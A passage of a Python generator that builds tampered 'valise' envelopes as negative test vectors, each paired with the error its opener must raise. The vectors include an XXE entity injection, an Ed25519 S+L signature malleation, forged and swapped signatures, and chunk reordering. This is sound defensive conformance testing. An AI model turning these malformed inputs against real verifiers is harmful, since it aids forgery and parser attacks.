            rb'<sealed-header length="[0-9]+"', f'<sealed-header length="{big}"'.encode(), x
        ),
    )

    # -- the format's rules (signed by the origin: the rule itself must refuse) ---------------
    created = b"<created>2026-12-01T09:00:00Z</created>"
    expires = b"<expires>2026-12-31T09:00:00Z</expires>"
    resigned(
        "expires_before_created",
        "SchemaError",
        "expires a day before created",
        lambda x: sub(x, expires, b"<expires>2026-11-30T09:00:00Z</expires>"),
    )
    resigned(
        "expires_equal_created",
        "SchemaError",
        "expires at the very second of created",
        lambda x: sub(x, expires, b"<expires>2026-12-01T09:00:00Z</expires>"),
    )
    resigned(
        "invalid_calendar_date",
        "SchemaError",
        "created on 2026-02-30",
        lambda x: sub(x, created, b"<created>2026-02-30T09:00:00Z</created>"),
    )
    resigned(
        "duplicate_destination",
        "SchemaError",
        "M-PARIS listed twice in <to>",
        lambda x: sub(x, b"<to>M-PARIS</to>", b"<to>M-PARIS</to><to>M-PARIS</to>"),
    )
    resigned(
        "destination_without_stanza",
        "SchemaError",
        "a destination M-HANOI with no recipient stanza",
        lambda x: sub(x, b"<to>M-PARIS</to>", b"<to>M-PARIS</to><to>M-HANOI</to>"),
    )
    add(
        "stanza_for_non_destination",
        "SchemaError",
        "base_two_recipients",
        "a recipient stanza for M-HANOI, which is no longer a destination (signed)",
        two.with_head(resign(sub(two.head, b"<to>M-HANOI</to>", b""), sender)),
    )
    stanza = _STANZA_RE.search(h)[0]
    resigned(
        "duplicate_recipient_stanza",
        "SchemaError",
        "the same recipient stanza twice",
        lambda x: sub(x, stanza, stanza + stanza),
    )
    short_wrap = base64.b64encode(base64.b64decode(wrapped)[:-3])
    resigned(
        "wrapped_key_wrong_length",
        "SchemaError",
        "a wrapped key 3 bytes short",
        lambda x: sub(x, wrapped, short_wrap),
    )
    head_attack(
        "signature_wrong_length",
        "SchemaError",
        "a 63-byte signature",
        lambda x: sub(x, sig, base64.b64encode(base64.b64decode(sig)[:-1])),
    )
    resigned(
        "impossible_segment_length",
        "SchemaError",
        "a part length of 15: shorter than one tag",
        lambda x: re.sub(rb'<part length="[0-9]+"', b'<part length="15"', x),
    )
    resigned(
        "segment_length_empty_last_chunk",
        "SchemaError",
        "a part length of one full chunk plus an empty chunk, which only an empty part has",
        lambda x: re.sub(
            rb'<part length="[0-9]+"', f'<part length="{CHUNK_CIPHERTEXT_BYTES + 16}"'.encode(), x
        ),
    )
    resigned(
        "segment_length_leading_zero",
        "SchemaError",
        "a part length written 046",
        lambda x: re.sub(rb'<part length="([0-9]+)"', rb'<part length="0\1"', x),
    )
    resigned(
        "digest_uppercase_hex",
        "SchemaError",
        "a part digest in upper-case hex",
        lambda x: re.sub(
            rb'(<part length="[0-9]+" sha256=")([0-9a-f]{64})',
            lambda m: m.group(1) + m.group(2).upper(),
            x,
        ),
    )
    resigned(
        "priority_unknown",
        "SchemaError",
        "priority 'urgent'",
        lambda x: sub(x, b"<priority>routine</priority>", b"<priority>urgent</priority>"),
    )
    head_attack(
        "text_with_trailing_space",
        "SchemaError",
        "priority 'routine ' with a trailing space (xs:string keeps it)",
        lambda x: sub(x, b"<priority>routine</priority>", b"<priority>routine </priority>"),
    )
    resigned(
        "message_id_not_uuid7",
        "SchemaError",
        "a message id that is a UUIDv4",
        lambda x: sub(x, b"<id>" + mid, b"<id>" + mid[:14] + b"4" + mid[15:]),
    )

    # -- the origin's signature -----------------------------------------------------------
    head_attack(
        "routing_field_changed",
        "SignatureInvalid",
        "priority raised from routine to flash, head re-framed",
        lambda x: sub(x, b"<priority>routine</priority>", b"<priority>flash</priority>"),
    )
    head_attack(
        "expires_extended",
        "SignatureInvalid",
        "the expiry pushed a year later",
        lambda x: sub(x, expires, b"<expires>2027-12-31T09:00:00Z</expires>"),
    )
    head_attack(
        "manifest_digest_changed",
        "SignatureInvalid",
        "the part's digest in the manifest changed (segments untouched)",
        lambda x: re.sub(
            rb'(<part length="[0-9]+" sha256=")([0-9a-f]{64})', rb"\g<1>" + b"0" * 64, x
        ),
    )
    add(
        "destination_replaced",
        "SignatureInvalid",
        "base_two_recipients",
        "destination M-HANOI renamed M-HANOX in <to> and in its stanza, consistently",
        two.with_head(two.head.replace(b"M-HANOI", b"M-HANOX")),
    )
    stanzas = [m[0] for m in _STANZA_RE.finditer(two.head)]
    add(
        "swapped_recipient_stanzas",
        "SignatureInvalid",
        "base_two_recipients",
        "the two recipient stanzas in the other order",
        two.with_head(sub(two.head, stanzas[0] + stanzas[1], stanzas[1] + stanzas[0])),
    )
    add(
        "recipient_stanza_relabelled",
        "SignatureInvalid",
        "base_two_recipients",
        "the two stanzas' site attributes exchanged (M-PARIS's key under M-HANOI's name)",
        two.with_head(
            two.head.replace(b'site="M-PARIS"', b'site="M-TMP"')
            .replace(b'site="M-HANOI"', b'site="M-PARIS"')
            .replace(b'site="M-TMP"', b'site="M-HANOI"')
        ),
    )
    head_attack(
        "signature_by_other_key",
        "SignatureInvalid",
        "signed again by the third party, under its own key id",
        lambda x: resign(x, other),
    )
    head_attack(
        "signature_by_other_key_claiming_sender",
        "SignatureInvalid",
        "signed by the third party, but the key attribute names the sender's key",
        lambda x: resign(x, other).replace(other.key_id.encode(), sender.key_id.encode()),
    )
    head_attack(
        "signature_bit_flipped",
        "SignatureInvalid",
        "one bit of the signature flipped",
        lambda x: sub(x, sig, base64.b64encode(flip(base64.b64decode(sig), 0))),
    )
    ed25519_order = 2**252 + 27742317777372353535851937790883648493
    raw_sig = base64.b64decode(sig)
    s_plus_l = int.from_bytes(raw_sig[32:], "little") + ed25519_order
    head_attack(
        "signature_malleated_s_plus_l",
        "SignatureInvalid",
        "the sender's signature with S replaced by S + L (the same point equation"
        " holds; a lax verifier accepts it and the envelope digest changes)",
        lambda x: sub(x, sig, base64.b64encode(raw_sig[:32] + s_plus_l.to_bytes(32, "little"))),
    )
    head_attack(
        "signature_from_other_envelope",
        "SignatureInvalid",
        "the sender's valid signature of another envelope (base_two_recipients)",
        lambda x: sub(x, sig, signature_text(two.head)),
    )
    head_attack(
        "signature_without_label",
        "SignatureInvalid",
        "the sender's signature over <signed> without the valise/v1/signature label",
        lambda x: resign(x, sender, label=b""),
    )
    add(
        "segments_spliced_from_other_envelope",
        "DigestMismatch",
        "base_simple",
        "base_simple's head over base_two_recipients' segments (same lengths)",
        frame(h, two.body),
    )

    # -- segments: a relay's edits ------------------------------------------------------------
    seal0, part1 = s.segments
    add(
        "sealed_header_ciphertext_flipped",
        "DigestMismatch",
        "base_simple",
        "one bit of the sealed header's ciphertext flipped",
        frame(h, flip(seal0, 5) + part1),
    )
    add(
        "sealed_header_flipped_digest_fixed",
        "SignatureInvalid",
        "base_simple",
        "a sealed header bit flipped and its manifest digest recomputed (not re-signed)",
        frame(fix_manifest(h, [flip(seal0, 5), part1]), flip(seal0, 5) + part1),
    )
    add(
        "part_ciphertext_flipped",
        "DigestMismatch",
        "base_simple",
        "one bit of the part's ciphertext flipped (the streaming reader meets the bad tag"
        " before it has the whole part's digest)",
        frame(h, seal0 + flip(part1, 3)),
        streaming="DecryptionFailed",
    )
    add(
        "part_ciphertext_flipped_digest_fixed",
        "SignatureInvalid",
        "base_simple",
        "a part bit flipped and its manifest digest recomputed (not re-signed)",
        frame(fix_manifest(h, [seal0, flip(part1, 3)]), seal0 + flip(part1, 3)),
    )
    add(
        "part_extended_digest_fixed",
        "SignatureInvalid",
        "base_simple",
        "16 bytes appended to the part, its length and digest fixed (not re-signed)",
        frame(fix_manifest(h, [seal0, part1 + bytes(16)]), seal0 + part1 + bytes(16)),
    )

    # -- hostile sender: behind the signature ---------------------------------------------------
    def resealed(env: Env, segments: Sequence[bytes]) -> bytes:
        return frame(resign(fix_manifest(env.head, segments), sender), b"".join(segments))

    add(
        "sealed_header_flipped_resigned",
        "DecryptionFailed",
        "base_simple",
        "a sealed header bit flipped, manifest fixed and re-signed: the AEAD refuses it",
        resealed(s, [flip(seal0, 5), part1]),
    )
    add(
        "part_ciphertext_flipped_resigned",
        "DecryptionFailed",
        "base_simple",
        "a part bit flipped, manifest fixed and re-signed: the AEAD refuses it",
        resealed(s, [seal0, flip(part1, 3)]),
    )

    def restanza(env: Env, new_wraps: Sequence[bytes]) -> bytes:
        """Put ``new_wraps`` into the stanzas, in order, and sign again."""
        wraps = iter(new_wraps)
        head = _STANZA_RE.sub(lambda m: m[0].replace(m.group(3), next(wraps)), env.head)
        assert next(wraps, None) is None
        return env.with_head(resign(head, sender))

    add(
        "wrapped_key_flipped_resigned",
        "DecryptionFailed",
        "base_simple",
        "one bit of the wrapped key flipped, re-signed: HPKE refuses it",
        restanza(s, [base64.b64encode(flip(base64.b64decode(wrapped), 1130))]),
    )
    sw = stanza_texts(shared.head)
    add(
        "wrap_bound_to_other_site",
        "DecryptionFailed",
        "base_shared_key",
        "both stanzas wrap to our key; their wraps exchanged and re-signed: the HPKE info"
        " binds each wrap to its site",
        restanza(shared, [sw[1], sw[0]]),
    )
    add(
        "wrap_from_other_envelope",
        "DecryptionFailed",
        "base_simple",
        "our stanza's wrap replaced by our wrap of another envelope, re-signed: the HPKE"
        " info binds each wrap to its message id",
        restanza(s, [stanza_texts(two.head)[0]]),
    )
    add(
        "not_addressed_to_us",
        "NotRecipient",
        "base_two_recipients",
        "M-PARIS and its stanza removed, re-signed: a valid envelope for M-HANOI only",
        two.with_head(
            resign(
                _STANZA_RE.sub(
                    lambda m: b"" if m.group(2) == RECIPIENT_SITE.encode() else m[0],
                    sub(two.head, b"<to>M-PARIS</to>", b""),
                ),
                sender,
            )
        ),
    )
    add(
        "recipient_key_id_unknown",
        "NotRecipient",
        "base_simple",
        "our stanza relabelled with another key id (the third party's), re-signed",
        s.with_head(
            resign(sub(h, keys.recipient.key_id.encode(), keys.third.key_id.encode()), sender)
        ),
    )

    # -- hostile sender: the inner (sealed header) parser ---------------------------------------
    ck = content_key(s, keys)
    sealed_xml = open_segment(part_key(ck, 0), seal0)

    def sealed_attack(name: str, expected: str, shows: str, plaintext: bytes) -> None:
        new0 = seal_segment(part_key(ck, 0), plaintext)
        add(name, expected, "base_simple", shows, resealed(s, [new0, part1]))

    sealed_attack(
        "sealed_header_xxe",
        "MalformedXML",
        "a sealed header with an external entity, encrypted and signed by the sender",
        xxe.replace(b"envelope", b"sealed")
        + sub(sealed_xml, b"<subject>Note verbale</subject>", b"<subject>&xxe;</subject>"),
    )
    sealed_attack(
        "sealed_header_comment",
        "MalformedXML",
        "a comment in the sealed header",
        sub(sealed_xml, b"</subject>", b"</subject><!-- x -->"),
    )
    sealed_attack(
        "sealed_header_not_canonical",
        "NonCanonical",
        "a sealed header with an XML declaration",
        b'<?xml version="1.0" encoding="UTF-8"?>' + sealed_xml,
    )
    sealed_attack(
        "sealed_header_whitespace",
        "NonCanonical",
        "a sealed header with a newline between its elements",
        sub(sealed_xml, b"</subject><part>", b"</subject>\n<part>"),
    )
    sealed_attack(
        "sealed_header_size_disagrees",
        "SchemaError",
        "the sealed header states the part is one byte longer than the manifest's",
        sub(sealed_xml, b"<size>30</size>", b"<size>31</size>"),
    )
    part_el = sealed_xml[sealed_xml.index(b"<part>") : sealed_xml.index(b"</part>") + 7]
    sealed_attack(
        "sealed_header_extra_part",
        "SchemaError",
        "the sealed header lists two parts, the manifest one",
        sub(sealed_xml, part_el, part_el + part_el),
    )
    sealed_attack(
        "sealed_header_wrong_root",
        "SchemaError",
        "the sealed header's root is <envelope>",
        sealed_xml.replace(b"<sealed ", b"<envelope ").replace(b"</sealed>", b"</envelope>"),
    )
    sealed_attack(
        "sealed_header_control_character",
        "SchemaError",
        "a TAB in the subject (well-formed XML, never carried by the format)",
        sub(sealed_xml, b"Note verbale", b"Note\tverbale"),
    )
    sealed_attack(
        "sealed_header_subject_too_long",
        "LimitExceeded",
        f"a subject of {limits.MAX_SUBJECT_CHARS + 1} characters",
        sub(sealed_xml, b"Note verbale", b"s" * (limits.MAX_SUBJECT_CHARS + 1)),
    )
    sealed_attack(
        "sealed_header_not_xml",
        "MalformedXML",
        "a sealed header that decrypts to bytes that are not XML",
        b"\x00not xml at all",
    )

    # -- hostile sender: STREAM -----------------------------------------------------------------
    tc = split(bases["base_two_chunks"])
    tp = split(bases["base_two_parts"])
    tc_seal, tc_part = tc.segments
    c0, c1 = chunks(tc_part)
    tp_seal, tp_part1, tp_part2 = tp.segments
    p0, p1 = chunks(tp_part1)
    q0, q1 = chunks(tp_part2)
    tp_ck = content_key(tp, keys)
    tp_sealed_xml = open_segment(part_key(tp_ck, 0), tp_seal)

    def chunk_attack(
        name: str, expected: str, base: str, shows: str, segments: Sequence[bytes]
    ) -> None:
        env = tc if base == "base_two_chunks" else tp
        add(name, expected, base, shows, resealed(env, segments))

    def second_part_resized(size: int) -> bytes:
        sealed = sub(
            tp_sealed_xml,
            b"<size>65537</size></part></sealed>",
            f"<size>{size}</size></part></sealed>".encode(),
        )
        return seal_segment(part_key(tp_ck, 0), sealed)

    add(
        "chunk_truncated",
        "FramingError",
        "base_two_parts",
        "the envelope's last chunk (the 1-byte last chunk of part 2) dropped, nothing else changed",
        tp.framed()[: -len(q1)],
    )
    chunk_attack(
        "chunk_reordered",
        "DecryptionFailed",
        "base_two_chunks",
        "the part's two chunks in the other order; manifest fixed and re-signed",
        [tc_seal, c1 + c0],
    )
    add(
        "chunk_reordered_digest_stale",
        "DigestMismatch",
        "base_two_chunks",
        "the part's two chunks in the other order, by a relay: the manifest keeps the old"
        " digest (the streaming reader meets the bad tag before the digest)",
        frame(tc.head, tc_seal + c1 + c0),
        streaming="DecryptionFailed",
    )
    chunk_attack(
        "chunk_duplicated",
        "DecryptionFailed",
        "base_two_chunks",
        "the part's first chunk in place of its second; manifest fixed and re-signed",
        [tc_seal, c0 + c0],
    )
    chunk_attack(
        "chunk_truncated_resigned",
        "DecryptionFailed",
        "base_two_parts",
        "part 2's last chunk dropped and the sealed header, manifest and signature"
        " made to agree: the new last chunk was not sealed as the last one",
        [second_part_resized(CHUNK_BYTES), tp_part1, q0],
    )
    tc_ck = content_key(tc, keys)
    tc_sealed = sub(
        open_segment(part_key(tc_ck, 0), tc_seal),
        b"<size>131072</size>",
        f"<size>{3 * CHUNK_BYTES}</size>".encode(),
    )
    chunk_attack(
        "chunk_appended_after_last",
        "DecryptionFailed",
        "base_two_chunks",
        "the part's (full) last chunk repeated after itself; sealed header, manifest"
        " and signature made to agree: a chunk follows the one sealed as the last",
        [seal_segment(part_key(tc_ck, 0), tc_sealed), tc_part + c1],
    )
    chunk_attack(
        "chunk_swapped_between_parts",
        "DecryptionFailed",
        "base_two_parts",
        "the first chunks of parts 1 and 2 exchanged (same index, same flag, same"
        " length); manifest fixed and re-signed: each part has its own key",
        [tp_seal, q0 + p1, p0 + q1],
    )
    chunk_attack(
        "parts_swapped",
        "DecryptionFailed",
        "base_two_parts",
        "the two (equally long) parts exchanged in the file, manifest fixed and"
        " re-signed: each part's key is bound to its position",
        [tp_seal, tp_part2, tp_part1],
    )
    return attacks


# -- the manifest ---------------------------------------------------------------------------


def provenance(keys: Keys, bases: Mapping[str, bytes]) -> dict[str, object]:
    return {
        "generator": GENERATOR,
        "command": COMMAND,
        "now": NOW.isoformat(),
        "open_with": {
            "call": "envelope.open.open_bytes(data, sender=<HQ verify key>, site='M-PARIS',"
            " key=<M-PARIS decryption key>); streaming: gateway.relay.envelope_io.open_to_dir",
            "expected_error": "the exact class in envelope/errors.py open_bytes must raise",
            "expected_error_streaming": "present only where the one-pass streaming reader"
            " legitimately detects the fault by another check first; else the same class",
        },
        "keys": {
            "sender": "crypto.keys.SigningKey.from_seed(bytes([1]) * 32)",
            "recipient": "crypto.keys.DecryptionKey.from_seed(bytes([2]) * 96)",
            "third_party": "SigningKey.from_seed(bytes([3]) * 32),"
            " DecryptionKey.from_seed(bytes([3]) * 96)",
            "base_rng": "crypto.random.FixedRandom(<the base's rng_seed>)",
        },
        "sites": {
            SENDER_SITE: {
                "role": "sender (origin)",
                "signing_seed": SENDER_SEED.hex(),
                "signing_key_id": keys.sender.key_id,
            },
            RECIPIENT_SITE: {
                "role": "recipient (the opener)",
                "encryption_seed": RECIPIENT_SEED.hex(),
                "encryption_key_id": keys.recipient.key_id,
            },
            THIRD_SITE: {
                "role": "third party",
                "signing_seed": THIRD_SIGNING_SEED.hex(),
                "signing_key_id": keys.third_signing.key_id,
                "encryption_seed": THIRD_ENCRYPTION_SEED.hex(),
                "encryption_key_id": keys.third.key_id,
            },
        },
        "hpke": "HPKE encapsulation is randomized inside pyca/cryptography, so the base"
        " envelopes are persisted; every attack is derived deterministically from them."
        " --reseal makes new bases (new wraps) and hence changes every file.",
    }


def manifest_document(keys: Keys, bases: Mapping[str, bytes], attacks: Sequence[Attack]) -> str:
    doc = {
        "provenance": provenance(keys, bases),
        "bases": [
            {
                "file": spec.file,
                "shows": spec.shows,
                "rng_seed": spec.rng_seed.decode(),
                "parts": [
                    {
                        "name": n,
                        "media_type": t,
                        "size": len(d),
                        "sha256": hashlib.sha256(d).hexdigest(),
                    }
                    for n, t, d in spec.parts
                ],
                "sha256": hashlib.sha256(bases[spec.name]).hexdigest(),
            }
            for spec in BASES
        ],
        "attacks": [a.entry() for a in attacks],
    }
    return json.dumps(doc, indent=2, ensure_ascii=False) + "\n"


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument(
        "--reseal", action="store_true", help="seal new base envelopes (changes every file)"
    )
    args = parser.parse_args(argv)
    keys = fixed_keys()
    HERE.mkdir(parents=True, exist_ok=True)
    bases = load_bases(HERE, keys, reseal=args.reseal)
    attacks = build_attacks(bases, keys)
    wanted = {spec.file for spec in BASES} | {a.file for a in attacks}
    for stale in HERE.glob("*.valise"):
        if stale.name not in wanted:
            stale.unlink()
    for spec in BASES:
        (HERE / spec.file).write_bytes(bases[spec.name])
    for attack in attacks:
        (HERE / attack.file).write_bytes(attack.data)
    (HERE / "MANIFEST.json").write_text(manifest_document(keys, bases, attacks))
    print(f"wrote {len(BASES)} bases and {len(attacks)} attacks into {HERE}")


if __name__ == "__main__":
    main()
